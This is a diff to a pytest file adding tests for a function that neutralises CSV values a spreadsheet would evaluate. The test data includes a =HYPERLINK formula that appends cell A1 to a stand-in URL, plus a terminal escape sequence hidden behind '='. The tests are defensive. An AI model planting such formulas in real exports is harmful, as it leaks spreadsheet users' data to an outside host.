@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from egress.record.printable import escape
+from egress.record.printable import escape, spreadsheet_cell
 
 
 @pytest.mark.parametrize(
@@ -36,3 +36,20 @@ def test_the_escape_is_printable_and_idempotent(text: str) -> None:
     assert escape(shown) == shown
     if text.isprintable():
         assert shown == text
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://x/"&A1,"ok")', '\'=HYPERLINK("http://x/"&A1,"ok")'),
+        ("+1", "'+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("=\x1b[2K", "'=\\027[2K"),
+        ("allowed.lab", "allowed.lab"),
+        ("", ""),
+        ("a=b", "a=b"),
+    ],
+)
+def test_a_csv_cell_a_spreadsheet_would_evaluate_is_quoted(text: str, cell: str) -> None:
+    assert spreadsheet_cell(text) == cell
